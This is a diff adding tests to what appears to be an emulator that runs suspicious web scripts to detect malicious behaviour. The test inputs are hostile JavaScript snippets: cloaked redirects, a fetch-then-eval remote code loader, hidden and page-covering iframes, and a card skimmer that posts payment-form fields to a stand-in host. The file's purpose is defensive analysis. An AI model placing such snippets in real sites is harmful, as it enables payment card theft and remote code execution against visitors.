@@ -131,6 +131,58 @@ describe('emulator: the decoy world', () => {
     assert.equal(requestsOf(trace)[0]?.host, 'redirect.example');
   });
 
+  const gates: [visitor: string, world: string, script: string][] = [
+    [
+      'a new visitor from a search engine',
+      'search-referrer',
+      '/google/.test(document.referrer) && !document.cookie',
+    ],
+    ['a phone', 'phone', '/Mobile/.test(navigator.userAgent)'],
+    ['an old browser', 'old-browser', '/MSIE/.test(navigator.userAgent)'],
+  ];
+  for (const [visitor, world, gate] of gates)
+    it(`is ${visitor} for who acts for such only`, async () => {
+      const trace = await run(`if (${gate}) location.href = 'https://redirect.example/'`);
+      assert.equal(trace.world, world);
+      assert.equal(requestsOf(trace)[0]?.host, 'redirect.example');
+    });
+
+  it('has servers that answer what a script looks for', async () => {
+    const trace = await run(
+      "fetch('https://x.example/').then(function (r) { return r.text() }).then(function (t) { if (t.indexOf('go:') >= 0) eval(t) })",
+    );
+    assert.equal(trace.world, 'willing-server');
+    assert.ok(summarise(trace).runsRemoteCode);
+  });
+
+  it('shows scripts their own source', async () => {
+    assert.equal(await seen("document.currentScript.innerHTML.includes('ownsource' + 'mark')"), 'false');
+    assert.equal(await seen("document.currentScript.innerHTML.includes('document.currentScript')"), 'true');
+  });
+
+  it('says what a person would see of frames', async () => {
+    const trace = await run(`
+      var f = document.createElement('iframe'); f.src = 'https://a.example/'; f.style.width = '1px'; document.body.appendChild(f);
+      var g = document.createElement('iframe'); g.src = 'https://b.example/'; g.style.cssText = 'position:fixed;width:100%;height:100%;z-index:9999'; document.body.appendChild(g);
+      var h = document.createElement('iframe'); h.src = 'https://c.example/'; document.body.appendChild(h);`);
+    assert.deepEqual(
+      eventsOf(trace, 'insert').map((event) => ('look' in event ? event.look : undefined)),
+      ['hidden', 'cover', undefined],
+    );
+  });
+
+  it('calls what packages for Node.js export', async () => {
+    const trace = await run("module.exports = function () { fetch('https://x.example/') };");
+    assert.equal(requestsOf(trace)[0]?.host, 'x.example');
+  });
+
+  it('knows what Prototype gives a shop', async () => {
+    const flows = await flowsOf(
+      "new Ajax.Request('https://c.example/', { method: 'post', parameters: Form.serialize(payment.form) }); $$('head')[0].appendChild(new Element('script', { src: 'https://d.example/' }))",
+    );
+    assert.ok(flows.some(({ field, host }) => field === 'card-number' && host === 'c.example'));
+  });
+
   it('lists strings that were decoded and never used', async () => {
     const trace = await run("var s = 'elpmaxe.terces//:sptth'.split('').reverse().join('');");
     assert.ok(trace.decoded.some((text) => text.includes('https://secret.example')));
